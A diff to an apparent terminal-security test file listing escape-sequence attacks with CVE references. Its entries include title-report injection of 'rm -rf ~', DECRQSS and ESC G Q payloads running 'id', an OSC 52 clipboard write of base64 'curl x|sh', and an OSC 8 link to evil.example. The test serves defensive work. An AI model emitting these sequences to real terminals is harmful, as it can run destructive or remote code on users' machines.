@@ -13,13 +13,12 @@ import type { LineClient } from "../support/line_client.ts";
 
 /** What has acted on a terminal, by what it did there. */
 const ATTACKS: readonly (readonly [what: string, text: string])[] = [
-  // CVE-2003-0063, CVE-2008-2383, CVE-2024-38396: the title, reported back as if it were typed.
+  // CVE-2003-0063, CVE-2024-38396, ConEmu GHSA-hfcw-j543-xjp3: the title, reported back as if it were typed.
   ["title and title report", "\x1b]2;rm -rf ~\x07\x1b[21t"],
   // CVE-2008-2383: DECRQSS, whose answer holds what was asked.
   ["DECRQSS", "\x1bP$q\nid\n\x1b\\"],
   // CVE-2021-33477: ESC G Q, answered with a line end.
   ["ESC G Q", "\x1bGQ;!id"],
-  // GHSA-hfcw-j543-xjp3: the answerback.
   ["answerback", "\x05"],
   ["the clipboard, OSC 52", "\x1b]52;c;Y3VybCB4fHNo\x07"],
   ["a link, OSC 8", "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\"],
